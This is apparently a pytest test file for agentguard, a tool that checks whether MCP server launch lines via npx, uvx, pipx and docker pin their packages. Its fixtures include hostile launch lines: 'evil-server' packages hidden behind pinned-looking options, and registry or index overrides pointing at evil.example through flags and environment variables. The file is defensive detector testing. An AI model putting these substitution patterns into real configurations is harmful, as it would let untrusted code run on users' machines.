"""The launch line read the way the launcher reads it (facts.launch_argv, shared by the MCP
server lock and AG310): only the launcher's own options before the operand count; an
option it does not know, another registry or index, or an extra unpinned package makes the
launch unverified, never "pinned" and never rewritten."""

from __future__ import annotations

import pytest

from agentguard.facts.agents import McpServer
from agentguard.facts.launch_pins import unpinned_reason
from agentguard.facts.mcp_pins import (
    MORE_PACKAGES,
    OTHER_REGISTRY,
    UNKNOWN_LINE,
    ServerLaunch,
    Unreadable,
    launch_of,
)
from agentguard.findings import Confidence, Fix, Location, Severity
from agentguard.rules.agent_tools import McpServerUnpinned
from agentguard.rules.agent_tools_mcp import check_mcp_server

DIGEST = "sha256:" + "a" * 64


def server(command: str, *args: str, env: tuple[tuple[str, str], ...] = ()) -> McpServer:
    return McpServer("s", ".mcp.json", 3, ".mcp.json", "stdio", command, tuple(args), env=env)


@pytest.mark.parametrize(
    ("argv", "want"),
    [
        # options after the package are the server's own: the package is the operand
        (("npx", "-y", "evil-server", "-p", "good-server@1.2.3"), ("evil-server", None, 1)),
        (("npx", "-y", "evil-server", "--package", "good-server@1.2.3"), ("evil-server", None, 1)),
        (("uvx", "evil-mcp", "--from", "good-server==1.2.3"), ("evil-mcp", None, 0)),
        (("uvx", "-P", "good-server==1.2.3", "evil-mcp"), ("evil-mcp", None, 2)),
        (("uvx", "--upgrade-package", "good-server==1.2.3", "evil-mcp"), ("evil-mcp", None, 2)),
        (
            ("docker", "run", "-i", "--health-cmd", f"ghcr.io/acme/good-mcp@{DIGEST}", "evil/mcp"),
            ("evil/mcp", None, 4),
        ),
        (("docker", "run", "-it", "--rm", "evil/mcp", "--name", "x"), ("evil/mcp", None, 3)),
        (("docker", "run", "-p8080:80", "-eT=1", "--rm", "evil/mcp"), ("evil/mcp", None, 4)),
        (("uvx", "--from", "srv==1.0", "srv", "--with", "x"), ("srv", "==1.0", 1)),
        (("npx", "-y", "srv@1.0.0", "--registry", "https://example.invalid/"), ("srv", "1.0.0", 1)),
    ],
)
def test_the_package_is_the_one_the_launcher_runs(
    argv: tuple[str, ...], want: tuple[object, ...]
) -> None:
    got = launch_of(server(*argv))
    assert isinstance(got, ServerLaunch), got
    assert (got.package, got.requested, got.operand) == want


@pytest.mark.parametrize(
    ("argv", "env", "code"),
    [
        (
            ("npx", "-y", "--registry", "https://evil.example/", "good-server@1.2.3"),
            (),
            OTHER_REGISTRY,
        ),
        (
            ("npx", "-y", "--registry=https://evil.example/", "good-server@1.2.3"),
            (),
            OTHER_REGISTRY,
        ),
        (
            ("npx", "-y", "--@acme:registry=https://evil.example/", "@acme/good-server@1.2.3"),
            (),
            OTHER_REGISTRY,
        ),
        (
            ("npx", "-y", "--@ACME:registry=https://evil.example/", "@acme/good-server@1.2.3"),
            (),
            OTHER_REGISTRY,
        ),
        (
            ("npx", "-y", "good-server@1.2.3"),
            (("npm_config_@acme:registry", "https://e/"), ("npm_config_registry", "https://e/")),
            OTHER_REGISTRY,
        ),
        (
            ("npx", "-y", "good-server@1.2.3"),
            (("npm_config_registry", "https://e/"),),
            OTHER_REGISTRY,
        ),
        (("npx", "-y", "good-server@1.2.3"), (("NPM_CONFIG_USERCONFIG", "./x"),), OTHER_REGISTRY),
        # --prefix takes a value, and npx runs what that folder holds
        (("npx", "-y", "--prefix", "good-server", "evil-server"), (), OTHER_REGISTRY),
        (("npx", "-y", "--prefix", "good-server@1.2.3", "evil-server"), (), OTHER_REGISTRY),
        (
            ("npx", "-y", "--cache", "./npm-cache", "--prefer-offline", "good-server"),
            (),
            OTHER_REGISTRY,
        ),
        (
            ("uvx", "--index-url", "https://evil.example/simple", "good-server==1.2.3"),
            (),
            OTHER_REGISTRY,
        ),
        (("uvx", "good-server==1.2.3"), (("UV_INDEX_URL", "https://e/simple"),), OTHER_REGISTRY),
        (("uvx", "good-server==1.2.3"), (("PIP_INDEX_URL", "https://e/simple"),), OTHER_REGISTRY),
        (("pipx", "run", "--index-url", "https://e/simple", "srv==1.0"), (), OTHER_REGISTRY),
        (("uvx", "--with", "evil-plugin", "good-server==1.2.3"), (), MORE_PACKAGES),
        (("uvx", "--with", "plugin==1.0", "good-server==1.2.3"), (), MORE_PACKAGES),
        (("npx", "-y", "-p", "good-server@1.2.3", "-p", "evil-server", "evil"), (), MORE_PACKAGES),
        (("npx", "-y", "--frobnicate", "good-server@1.2.3", "evil-server"), (), UNKNOWN_LINE),
        (("npx", "-y", "-c", "good-server@1.2.3"), (), UNKNOWN_LINE),
        (("uvx", "--frobnicate", "good-server==1.2.3", "evil-mcp"), (), UNKNOWN_LINE),
        (
            ("uvx", "--from", "git+https://e/x", "--from", "good-server==1.2.3", "good-server"),
            (),
            UNKNOWN_LINE,
        ),
        (("pipx", "run", "--pip-args", "--index-url=https://e/", "srv==1.0"), (), UNKNOWN_LINE),
        (
            ("docker", "run", "-i", "--frobnicate", f"ghcr.io/acme/good-mcp@{DIGEST}", "evil/mcp"),
            (),
            UNKNOWN_LINE,
        ),
        (("docker", "run", "-iZ", f"ghcr.io/acme/good-mcp@{DIGEST}"), (), UNKNOWN_LINE),
    ],
)
def test_a_launch_the_lock_cannot_check_is_unverified(
    argv: tuple[str, ...], env: tuple[tuple[str, str], ...], code: str
) -> None:
    got = launch_of(server(*argv, env=env))
    assert isinstance(got, Unreadable) and got.unverified, got
    assert got.code == code


@pytest.mark.parametrize(
    ("argv", "env"),
    [
        (("npx", "-y", "--@acme:registry=https://evil.example/", "good-server@1.2.3"), ()),
        (("npx", "-y", "--@acme:registry", "https://e/", "@other/good-server@1.2.3"), ()),
        (("npx", "-y", "good-server@1.2.3"), (("npm_config_@acme:registry", "https://e/"),)),
    ],
)
def test_a_scope_s_registry_is_not_the_registry_of_a_package_outside_the_scope(
    argv: tuple[str, ...], env: tuple[tuple[str, str], ...]
) -> None:
    """npm reads `@acme:registry` for packages of the scope @acme only: another package
    comes from the default registry, so its launch is locked and checked (its tree's
    @acme packages are the lock's to report, AG142)."""
    got = launch_of(server(*argv, env=env))
    assert isinstance(got, ServerLaunch), got
    assert [scope for scope, _ in got.scoped] == ["@acme"]
    assert unpinned_reason(server(*argv, env=env)) is None


@pytest.mark.parametrize(
    ("argv", "env", "want"),
    [
        (
            ("npx", "-y", "evil-server", "-p", "good-server@1.2.3"),
            (),
            ("evil-server", Severity.HIGH),
        ),
        (
            ("npx", "-y", "--prefix", "good-server@1.2.3", "evil-server"),
            (),
            ("an npm package through `npx`", Severity.HIGH),
        ),
        (("uvx", "-P", "good-server==1.2.3", "evil-mcp"), (), ("evil-mcp", Severity.HIGH)),
        (("uvx", "evil-mcp", "--from", "good-server==1.2.3"), (), ("evil-mcp", Severity.HIGH)),
        (
            ("uvx", "--with", "evil-plugin", "good-server==1.2.3"),
            (),
            ("evil-plugin", Severity.HIGH),
        ),
        (("uvx", "--with", "plugin==1.0", "good-server==1.2.3"), (), None),
        (
            ("npx", "-y", "-p", "good-server@1.2.3", "-p", "evil-server", "evil"),
            (),
            ("evil-server", Severity.HIGH),
        ),
        (
            ("uvx", "--index-url", "https://evil.example/simple", "good-server==1.2.3"),
            (),
            ("a Python package through `uvx`", Severity.HIGH),
        ),
        (
            ("npx", "-y", "good-server@1.2.3"),
            (("npm_config_registry", "https://evil.example/"),),
            ("an npm package through `npx`", Severity.HIGH),
        ),
        (
            ("npx", "-y", "--registry=https://evil.example/", "good-server@1.2.3"),
            (),
            ("an npm package through `npx`", Severity.HIGH),
        ),
        (
            ("npx", "-y", "-c", "good-server@1.2.3"),
            (),
            ("an npm package through `npx`", Severity.HIGH),
        ),
        (
            ("docker", "run", "-i", "--health-cmd", f"ghcr.io/acme/good-mcp@{DIGEST}", "evil/mcp"),
            (),
            ("evil/mcp", Severity.HIGH),
        ),
        (
            ("docker", "run", "-i", "--frobnicate", f"ghcr.io/acme/good-mcp@{DIGEST}", "evil/mcp"),
            (),
            ("an image through `docker run`", Severity.HIGH),
        ),
        (("npx", "-y", "good-server@1.2.3", "--registry", "x", "-p", "y"), (), None),
        (("npx", "--package=good-server@1.2.3", "good"), (), None),
        (("uvx", "--with", "numpy>=1.20", "fastmcp", "run"), (), ("fastmcp", Severity.HIGH)),
        (("npx", "--package=evil-server", "good"), (), ("evil-server", Severity.HIGH)),
        (("docker", "run", "-it", "--rm", f"ghcr.io/acme/good-mcp@{DIGEST}", "--x"), (), None),
    ],
)
def test_ag310_reads_the_same_line(
    argv: tuple[str, ...], env: tuple[tuple[str, str], ...], want: tuple[str, Severity] | None
) -> None:
    found = unpinned_reason(server(*argv, env=env))
    assert ((found[0], found[3]) if found else None) == want


def test_a_flag_with_its_value_written_on_is_read_but_never_rewritten() -> None:
    got = launch_of(server("npx", "--package=good-server@1.2.3", "good"))
    assert isinstance(got, Unreadable) and not got.unverified
    assert got.why == "`--flag=SPEC` is not rewritten; write the flag and the package apart"


def test_a_launch_with_further_packages_is_not_sent_to_the_lock() -> None:
    s = server("uvx", "--with", "numpy>=1.20", "fastmcp")
    assert check_mcp_server(s) == [
        McpServerUnpinned.finding(
            "MCP server 's' (.mcp.json) launches fastmcp: no exact version: the newest release "
            "is resolved on every start.",
            locations=[Location(path=".mcp.json", line=3, note=".mcp.json")],
            fix=Fix(
                "Pin it: launch `fastmcp==<version>` and give every further package of the "
                "launch an exact version too (`agentguard lock` records one package per launch, "
                "so it does not lock this one); then update them on purpose."
            ),
            evidence={
                "server": "s",
                "argv": ["uvx", "--with", "numpy>=1.20", "fastmcp"],
                "declared_in": ".mcp.json",
            },
            severity=Severity.HIGH,
            confidence=Confidence.HIGH,
        )
    ]
